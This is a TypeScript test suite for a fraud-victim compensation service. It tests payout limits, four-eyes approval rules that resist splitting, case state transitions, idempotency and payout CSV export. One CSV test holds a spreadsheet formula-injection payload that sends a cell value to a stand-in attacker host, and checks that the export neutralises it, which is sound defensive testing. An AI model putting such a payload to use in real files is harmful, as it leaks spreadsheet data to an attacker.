import { describe, expect, it } from "vitest";
import fc from "fast-check";
import {
  assertTransition,
  buildPayoutCsv,
  approvalRefusalWords,
  canApprove,
  canApproveForVictim,
  canonicalCaseRequest,
  caseTotalYen,
  checkLines,
  formatYen,
  holdsAmount,
  idempotencyOutcome,
  maskAccountNumber,
  needsSecondApprover,
  remainingOwedYen,
  sameRequest,
  victimKey,
  victimsPaidByOnePerson,
  type ChargeForCompensation,
  type ExistingLine,
  type VictimCase,
} from "./rules.ts";
import { formatYen as sharedFormatYen, maskAccountNumber as sharedMaskAccountNumber } from "../format.ts";
import { CreateCaseInput, DEFAULT_APPROVAL_THRESHOLD_YEN, type CaseState } from "./schemas.ts";

const victim = { bankCode: "0125", branchCode: "101", accountNumber: "1234567" };
const charge = (id: string, amountYen: number, over: Partial<ChargeForCompensation> = {}): ChargeForCompensation => ({
  id,
  amountYen,
  ...victim,
  ...over,
});
const charges = new Map([["c1", charge("c1", 50_000)], ["c2", charge("c2", 30_000)]]);

describe("remainingOwedYen", () => {
  it("partial amounts add up; rejected and cancelled cases free their amount", () => {
    expect(remainingOwedYen(50_000, [])).toBe(50_000);
    expect(remainingOwedYen(50_000, [{ amountYen: 20_000, caseState: "REQUESTED" }])).toBe(30_000);
    expect(
      remainingOwedYen(50_000, [
        { amountYen: 20_000, caseState: "PAID" },
        { amountYen: 10_000, caseState: "APPROVED" },
        { amountYen: 50_000, caseState: "REJECTED" },
        { amountYen: 50_000, caseState: "CANCELLED" },
      ]),
    ).toBe(20_000);
  });
});

describe("checkLines", () => {
  const existing = new Map<string, ExistingLine[]>([["c1", [{ amountYen: 20_000, caseState: "APPROVED" }]]]);
  it("accepts exactly the remaining amount", () => {
    expect(checkLines([{ chargeId: "c1", amountYen: 30_000 }], charges, existing, victim)).toEqual({ ok: true });
  });
  it("refuses 1 yen over", () => {
    expect(checkLines([{ chargeId: "c1", amountYen: 30_001 }], charges, existing, victim)).toEqual({
      ok: false,
      code: "COMPENSATION_EXCEEDS_CHARGE",
      chargeId: "c1",
      remainingYen: 30_000,
      requestedYen: 30_001,
    });
  });
  it("counts a charge listed twice in one request together", () => {
    const r = checkLines([{ chargeId: "c2", amountYen: 20_000 }, { chargeId: "c2", amountYen: 10_001 }], charges, new Map(), victim);
    expect(r).toMatchObject({ ok: false, code: "COMPENSATION_EXCEEDS_CHARGE", requestedYen: 30_001 });
  });
  it("refuses a charge drawn on another account, and unknown charges", () => {
    const other = new Map([["x", charge("x", 10_000, { accountNumber: "7654321" })]]);
    expect(checkLines([{ chargeId: "x", amountYen: 1 }], other, new Map(), victim)).toEqual({ ok: false, code: "CHARGE_NOT_FOR_VICTIM", chargeId: "x" });
    expect(checkLines([{ chargeId: "nope", amountYen: 1 }], charges, new Map(), victim)).toMatchObject({ code: "UNKNOWN_CHARGE" });
    expect(checkLines([{ chargeId: "c1", amountYen: 0 }], charges, new Map(), victim)).toMatchObject({ code: "INVALID_AMOUNT" });
  });
  it("a rejected case frees the amount for a new case", () => {
    const rejected = new Map<string, ExistingLine[]>([["c2", [{ amountYen: 30_000, caseState: "REJECTED" }]]]);
    expect(checkLines([{ chargeId: "c2", amountYen: 30_000 }], charges, rejected, victim).ok).toBe(true);
  });
});

describe("approval", () => {
  const T = DEFAULT_APPROVAL_THRESHOLD_YEN;
  const support = { id: "u-support", role: "SUPPORT" as const };
  const manager = { id: "u-manager", role: "MANAGER" as const };
  it("threshold is inclusive", () => {
    expect(needsSecondApprover(T - 1, T)).toBe(false);
    expect(needsSecondApprover(T, T)).toBe(true);
  });
  it("below the threshold support may approve, even their own request", () => {
    expect(canApprove({ actor: support, requestedById: "u-support", totalYen: T - 1, thresholdYen: T })).toEqual({ ok: true });
    expect(canApprove({ actor: manager, requestedById: "u-manager", totalYen: T - 1, thresholdYen: T })).toEqual({ ok: true });
  });
  it("at and above the threshold only a manager who is not the requester", () => {
    for (const totalYen of [T, T + 1]) {
      expect(canApprove({ actor: support, requestedById: "u-other", totalYen, thresholdYen: T })).toEqual({ ok: false, code: "MANAGER_APPROVAL_REQUIRED" });
      expect(canApprove({ actor: manager, requestedById: "u-manager", totalYen, thresholdYen: T })).toEqual({ ok: false, code: "SELF_APPROVAL_NOT_ALLOWED" });
      expect(canApprove({ actor: manager, requestedById: "u-support", totalYen, thresholdYen: T })).toEqual({ ok: true });
    }
  });
  it("analysts and admins may not approve", () => {
    expect(canApprove({ actor: { id: "a", role: "ANALYST" }, requestedById: "x", totalYen: 1, thresholdYen: T })).toEqual({ ok: false, code: "ROLE_NOT_ALLOWED" });
    expect(canApprove({ actor: { id: "a", role: "ADMIN" }, requestedById: "x", totalYen: 1, thresholdYen: T })).toEqual({ ok: false, code: "ROLE_NOT_ALLOWED" });
  });
});

describe("approval per victim (#12 defect 1: four eyes cannot be bypassed by splitting)", () => {
  const T = DEFAULT_APPROVAL_THRESHOLD_YEN;
  const support = { id: "u-support", role: "SUPPORT" as const };
  const manager = { id: "u-manager", role: "MANAGER" as const };
  const manager2 = { id: "u-manager2", role: "MANAGER" as const };
  const kase = (id: string, totalYen: number, requestedById: string, state: VictimCase["state"] = "REQUESTED", decidedById: string | null = null): VictimCase => ({ id, state, totalYen, requestedById, decidedById });
  const check = (actor: { id: string; role: "SUPPORT" | "MANAGER" | "ANALYST" | "ADMIN" }, target: VictimCase, others: VictimCase[]) =>
    canApproveForVictim({ actor, target, victimCases: [target, ...others], thresholdYen: T });

  it("a manager's ¥99,999 + ¥1 for one charge: the second approval is refused, whatever the order", () => {
    const a = kase("a", T - 1, manager.id, "APPROVED", manager.id);
    const b = kase("b", 1, manager.id);
    expect(check(manager, b, [a])).toMatchObject({ ok: false, code: "SELF_APPROVAL_NOT_ALLOWED", victimTotalYen: T, caseCount: 2 });
    // Both still requested: neither may be approved by the one who asked for them.
    expect(check(manager, kase("a", T - 1, manager.id), [b])).toMatchObject({ ok: false, code: "SELF_APPROVAL_NOT_ALLOWED" });
    // Another manager may: two people then stand behind the total.
    expect(check(manager2, b, [a])).toEqual({ ok: true });
  });

  it("support's 2 × ¥99,999 for one victim: the second needs a manager", () => {
    const first = kase("a", T - 1, support.id, "APPROVED", support.id);
    expect(check(support, kase("b", T - 1, support.id), [first])).toMatchObject({ ok: false, code: "MANAGER_APPROVAL_REQUIRED", victimTotalYen: 2 * (T - 1) });
    expect(check(support, kase("b", T - 1, support.id), [])).toEqual({ ok: true });
  });

  it("rejected and cancelled cases do not count; paid ones do", () => {
    const target = kase("b", T / 2, support.id);
    expect(check(support, target, [kase("a", T / 2, support.id, "REJECTED", manager.id), kase("c", T, support.id, "CANCELLED", support.id)])).toEqual({ ok: true });
    expect(check(support, target, [kase("a", T / 2, support.id, "PAID", support.id)])).toMatchObject({ ok: false, code: "MANAGER_APPROVAL_REQUIRED" });
  });

  it("a manager who asked for another of the victim's cases, or alone approved the others, may not approve", () => {
    const target = kase("b", 10, support.id);
    expect(check(manager, target, [kase("a", T, manager.id)])).toMatchObject({ ok: false, code: "OTHER_MANAGER_REQUIRED", why: "REQUESTED_OTHER_CASE" });
    expect(check(manager, target, [kase("a", T, support.id, "APPROVED", manager.id)])).toMatchObject({ ok: false, code: "OTHER_MANAGER_REQUIRED", why: "APPROVED_OTHER_CASES" });
    // Once someone else approved part of the sum, the first manager may approve again: a victim with
    // many cases needs two managers, not one per case.
    expect(check(manager, target, [kase("a", T, support.id, "APPROVED", manager.id), kase("c", 10, support.id, "APPROVED", manager2.id)])).toEqual({ ok: true });
    // Others still waiting: no one approved them yet.
    expect(check(manager, target, [kase("a", T, support.id)])).toEqual({ ok: true });
  });

  it("analysts and admins never approve", () => {
    expect(check({ id: "x", role: "ADMIN" }, kase("b", 1, support.id), [])).toMatchObject({ ok: false, code: "ROLE_NOT_ALLOWED" });
  });

  it("says why in words, naming the victim's total", () => {
    const refusal = check(support, kase("b", T - 1, support.id), [kase("a", T - 1, support.id, "APPROVED", support.id)]);
    if (refusal.ok) throw new Error("expected a refusal");
    expect(approvalRefusalWords(refusal, T)).toBe(`With this case the victim's account would receive ${formatYen(2 * (T - 1))} across 2 cases, at or above the ${formatYen(T)} threshold: a manager must approve it.`);
    expect(approvalRefusalWords({ code: "MANAGER_APPROVAL_REQUIRED", victimTotalYen: T, caseCount: 1 }, T)).toBe(`Cases of ${formatYen(T)} or more need a manager's approval.`);
  });

  it("property: no sequence of creates, approvals, rejections and cancellations lets one person approve a total at or above the threshold alone", () => {
    const people = [support, manager, manager2];
    const op = fc.oneof(
      fc.record({ kind: fc.constant("create" as const), by: fc.integer({ min: 0, max: 2 }), amountYen: fc.oneof(fc.integer({ min: 1, max: T + 10 }), fc.constantFrom(1, T - 1, T)) }),
      fc.record({ kind: fc.constantFrom("approve" as const, "reject" as const, "cancel" as const), by: fc.integer({ min: 0, max: 2 }), pick: fc.nat() }),
    );
    fc.assert(
      fc.property(fc.array(op, { maxLength: 30 }), (ops) => {
        const cases: VictimCase[] = [];
        for (const o of ops) {
          if (o.kind === "create") {
            cases.push(kase(`c${cases.length}`, o.amountYen, people[o.by].id));
            continue;
          }
          const c = cases.length ? cases[o.pick % cases.length] : undefined;
          if (!c) continue;
          if (o.kind === "approve" && c.state === "REQUESTED" && check(people[o.by], c, cases.filter((x) => x !== c)).ok) {
            c.state = "APPROVED";
            c.decidedById = people[o.by].id;
          }
          if (o.kind === "reject" && c.state === "REQUESTED") c.state = "REJECTED";
          if (o.kind === "cancel" && (c.state === "REQUESTED" || c.state === "APPROVED")) c.state = "CANCELLED";
        }
        const approved = cases.filter((c) => c.state === "APPROVED");
        const total = approved.reduce((s, c) => s + c.totalYen, 0);
        if (total < T) return;
        const approvers = new Set(approved.map((c) => c.decidedById));
        const involved = new Set(approved.flatMap((c) => [c.requestedById, c.decidedById]));
        // At or above the threshold: always two people, and a manager among the approvers; one
        // approver alone only for a single case that someone else requested.
        expect(involved.size).toBeGreaterThanOrEqual(2);
        expect([...approvers].some((id) => id !== support.id)).toBe(true);
        if (approvers.size === 1) expect(approved).toHaveLength(1);
      }),
      { numRuns: 2000 },
    );
  });

  it("payout: a victim paid at or above the threshold by one person alone is named", () => {
    const v = { bankCode: "0125", branchCode: "101", accountNumber: "1234567" };
    const w = { bankCode: "0125", branchCode: "101", accountNumber: "7654321" };
    expect(
      victimsPaidByOnePerson(
        [
          { ...v, totalYen: T - 1, requestedById: "m", decidedById: "m" },
          { ...v, totalYen: 1, requestedById: "m", decidedById: "m" },
          { ...w, totalYen: T, requestedById: "s", decidedById: "m" },
          { ...w, totalYen: 5, requestedById: "m", decidedById: "m" },
        ],
        T,
      ),
    ).toEqual([victimKey(v.bankCode, v.branchCode, v.accountNumber)]);
  });
});

describe("transitions", () => {
  it("follows REQUESTED → APPROVED → PAID; terminal states stay put", () => {
    expect(assertTransition("REQUESTED", "APPROVED").ok).toBe(true);
    expect(assertTransition("APPROVED", "PAID").ok).toBe(true);
    expect(assertTransition("REQUESTED", "REJECTED").ok).toBe(true);
    expect(assertTransition("APPROVED", "CANCELLED").ok).toBe(true);
    expect(assertTransition("REQUESTED", "PAID")).toEqual({ ok: false, code: "INVALID_TRANSITION", from: "REQUESTED", to: "PAID" });
    expect(assertTransition("APPROVED", "REJECTED").ok).toBe(false);
    for (const from of ["PAID", "REJECTED", "CANCELLED"] as const) {
      for (const to of ["REQUESTED", "APPROVED", "PAID", "REJECTED", "CANCELLED"] as const) expect(assertTransition(from, to).ok).toBe(false);
    }
  });
});

describe("idempotency", () => {
  const a = { victim: { ...victim, holderName: "ヤマダ タロウ" }, lines: [{ chargeId: "c1", amountYen: 1 }, { chargeId: "c2", amountYen: 2 }], reason: "phished" };
  it("line order does not matter; content does", () => {
    const reordered = { ...a, lines: [...a.lines].reverse() };
    expect(sameRequest(a, reordered)).toBe(true);
    expect(sameRequest(a, { ...a, lines: [{ chargeId: "c1", amountYen: 2 }, { chargeId: "c2", amountYen: 2 }] })).toBe(false);
    expect(idempotencyOutcome(null, canonicalCaseRequest(a))).toEqual({ kind: "create" });
    expect(idempotencyOutcome(canonicalCaseRequest(a), canonicalCaseRequest(reordered))).toEqual({ kind: "replay" });
    expect(idempotencyOutcome(canonicalCaseRequest(a), canonicalCaseRequest({ ...a, reason: "other reason" }))).toEqual({
      ok: false,
      code: "IDEMPOTENCY_KEY_REUSED",
    });
  });
});

describe("formatting", () => {
  it("masks, formats yen and builds victim keys", () => {
    expect(maskAccountNumber("1234567")).toBe("****567");
    expect(formatYen(1_234_567)).toBe("¥1,234,567");
    expect(formatYen(0)).toBe("¥0");
    expect(formatYen(999)).toBe("¥999");
    expect(formatYen(-1000)).toBe("-¥1,000");
    // The app-wide formatter (shared/format.ts), not a copy of it.
    expect(formatYen).toBe(sharedFormatYen);
    expect(maskAccountNumber).toBe(sharedMaskAccountNumber);
    expect(victimKey("0125", "101", "1234567")).toBe("0125-101-1234567");
  });
});

describe("buildPayoutCsv", () => {
  const rows = [
    { caseId: "bbbb", bankCode: "0125", branchCode: "101", accountNumber: "1234567", holderName: 'ヤマダ "タロウ"', amountYen: 1000 },
    { caseId: "aaaa", bankCode: "9900", branchCode: "019", accountNumber: "0000001", holderName: "スズキ, ハナコ", amountYen: 250_000 },
  ];
  const batch = { id: "batch-1", createdAt: new Date("2020-09-10T01:02:03.456Z") };
  it("is sorted, CRLF-terminated, quoted where needed", () => {
    const file = buildPayoutCsv(rows, batch);
    expect(file.csv).toBe(
      "\uFEFFbank_code,branch_code,account_number_masked,account_number,holder_name,amount_yen,case_ids\r\n" +
        '9900,019,****001,0000001,"スズキ, ハナコ",250000,aaaa\r\n' +
        '0125,101,****567,1234567,"ヤマダ ""タロウ""",1000,bbbb\r\n',
    );
    // 01:02 UTC is 10:02 in Japan: the file name says so.
    expect(file).toMatchObject({ fileName: "payout-batch-batch-1-20200910-1002JST.csv", caseCount: 2, totalYen: 251_000 });
  });
  it("writes a formula-looking holder name as text (defect 2), with a BOM and katakana intact on the bytes", () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const file = buildPayoutCsv([{ ...rows[0], holderName: evil }, rows[1]], batch);
    const bytes = Buffer.from(file.csv, "utf8");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes)).toContain("スズキ, ハナコ");
    expect(file.csv).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1000,bbbb\r\n`);
    expect(file.csv).not.toMatch(/,"?=HYPERLINK/);
  });
  it("puts several cases for one victim account into one row with the summed amount", () => {
    const file = buildPayoutCsv([...rows, { ...rows[0], caseId: "0000", amountYen: 500 }], batch);
    expect(file.csv.split("\r\n")).toContain('0125,101,****567,1234567,"ヤマダ ""タロウ""",1500,0000 bbbb');
    expect(file).toMatchObject({ caseCount: 3, totalYen: 251_500 });
    expect(file.csv.trimEnd().split("\r\n")).toHaveLength(3);
  });
  it("same rows in any order give identical bytes", () => {
    expect(buildPayoutCsv([...rows].reverse(), batch).csv).toBe(buildPayoutCsv(rows, batch).csv);
  });
  it("refuses a case twice or a bad amount", () => {
    expect(() => buildPayoutCsv([rows[0], rows[0]], batch)).toThrow(/more than once/);
    expect(() => buildPayoutCsv([{ ...rows[0], amountYen: 0 }], batch)).toThrow(/invalid amount/);
  });
});

describe("CreateCaseInput", () => {
  const valid = {
    idempotencyKey: "7d3c1f0e-1111-4222-8333-444455556666",
    victim: { ...victim, holderName: " ヤマダ タロウ " },
    lines: [{ chargeId: "c1", amountYen: 500 }],
    reason: "phishing victim",
  };
  it("accepts a valid request and trims names", () => {
    expect(CreateCaseInput.parse(valid).victim.holderName).toBe("ヤマダ タロウ");
  });
  it("refuses duplicate charges, bad account numbers, short keys, non-integer yen", () => {
    expect(CreateCaseInput.safeParse({ ...valid, lines: [valid.lines[0], valid.lines[0]] }).success).toBe(false);
    expect(CreateCaseInput.safeParse({ ...valid, victim: { ...valid.victim, accountNumber: "123456" } }).success).toBe(false);
    expect(CreateCaseInput.safeParse({ ...valid, idempotencyKey: "short" }).success).toBe(false);
    expect(CreateCaseInput.safeParse({ ...valid, lines: [{ chargeId: "c1", amountYen: 1.5 }] }).success).toBe(false);
  });
});

describe("property: never more than was taken", () => {
  type Op =
    | { kind: "create"; lines: { chargeIdx: number; amountYen: number }[] }
    | { kind: "approve" | "reject" | "cancel" | "pay"; caseIdx: number };
  const chargeAmounts = [1_000, 5_000, 30_000];
  const opArb: fc.Arbitrary<Op> = fc.oneof(
    fc.record({
      kind: fc.constant("create" as const),
      lines: fc.uniqueArray(fc.record({ chargeIdx: fc.integer({ min: 0, max: 2 }), amountYen: fc.integer({ min: 1, max: 35_000 }) }), {
        minLength: 1,
        maxLength: 3,
        selector: (l) => l.chargeIdx,
      }),
    }),
    fc.record({ kind: fc.constantFrom("approve" as const, "reject" as const, "cancel" as const, "pay" as const), caseIdx: fc.nat(20) }),
  );

  it("holds for random create/approve/reject/cancel/pay sequences", () => {
    fc.assert(
      fc.property(fc.array(opArb, { maxLength: 60 }), (ops) => {
        const chargesById = new Map(chargeAmounts.map((amountYen, i) => [`c${i}`, charge(`c${i}`, amountYen)]));
        const cases: { state: CaseState; lines: { chargeId: string; amountYen: number }[] }[] = [];
        const existingByCharge = () => {
          const m = new Map<string, ExistingLine[]>();
          for (const c of cases) for (const l of c.lines) m.set(l.chargeId, [...(m.get(l.chargeId) ?? []), { amountYen: l.amountYen, caseState: c.state }]);
          return m;
        };
        const target: Record<string, CaseState> = { approve: "APPROVED", reject: "REJECTED", cancel: "CANCELLED", pay: "PAID" };
        for (const op of ops) {
          if (op.kind === "create") {
            const lines = op.lines.map((l) => ({ chargeId: `c${l.chargeIdx}`, amountYen: l.amountYen }));
            if (checkLines(lines, chargesById, existingByCharge(), victim).ok) cases.push({ state: "REQUESTED", lines });
          } else if (cases.length > 0) {
            const c = cases[op.caseIdx % cases.length];
            const to = target[op.kind];
            if (assertTransition(c.state, to).ok) c.state = to;
          }
          for (const [chargeId, lines] of existingByCharge()) {
            const held = caseTotalYen(lines.filter((l) => holdsAmount(l.caseState)));
            if (held > chargesById.get(chargeId)!.amountYen) return false;
          }
        }
        return true;
      }),
      { numRuns: 500 },
    );
  });
});
